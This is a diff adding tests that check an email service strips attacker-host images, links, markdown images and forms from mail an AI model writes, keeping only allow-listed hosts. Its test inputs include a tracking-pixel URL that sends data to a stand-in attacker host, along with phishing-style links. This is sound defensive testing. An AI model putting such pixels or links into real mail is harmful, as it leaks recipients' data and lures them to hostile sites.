@@ -350,3 +350,32 @@ async def test_a_plain_server_on_this_machine_is_enough(sqlite_settings: Setting
     finally:
         controller.stop()
     assert len(handler.messages) == 1
+
+
+async def test_what_a_model_wrote_leads_only_where_it_may(desk: Desk, server: Mail) -> None:
+    html = (
+        "<p>Hello <img src='https://evil.example/x.png?d=1234'>you,<br>see "
+        "<a href='https://evil.example/a'>this</a> or ![](//evil.example/b).</p><form>Pay</form>"
+    )
+    one, two = (Context(STAFF, "mcp", client=name) for name in "ab")
+    arguments = {"to": TO, "subject": "See evil.example now", "html": html}
+    assert (await desk.gate.call("send_html_email", arguments, one)).status == "ok"
+    text = f"[Help](https://evil.example/c) or mail to {TO}, <b>please</b>."
+    arguments = {"to": TO, "subject": "s", "body": text}
+    assert (await desk.gate.call("send_text_email", arguments, two)).status == "ok"
+    assert (await desk.gate.call("send_text_email", arguments, Context(STAFF, "rest"))).value
+    first, second, by_hand = (parsed(mail.content) for mail in server.received)
+    assert "evil.example" not in str(first)
+    assert "<img" not in part(first, "html")
+    assert "<a" not in part(first, "html")
+    assert "Hello you," in part(first, "html").replace("<br>", "\n")
+    assert part(second, "plain") == f"Help or mail to {TO}, please."
+    assert part(by_hand, "plain") == text  # a person or a program may link as they like
+
+
+def test_a_model_may_link_to_the_hosts_on_the_list() -> None:
+    text = "See https://shop.example/a\nor https://evil.example/b"
+    letter = Letter(to=[TO], subject="s", text=text)
+    written = compose.plainly(letter, {"shop.example"})
+    assert "https://shop.example/a\n" in written.text
+    assert "evil" not in written.text
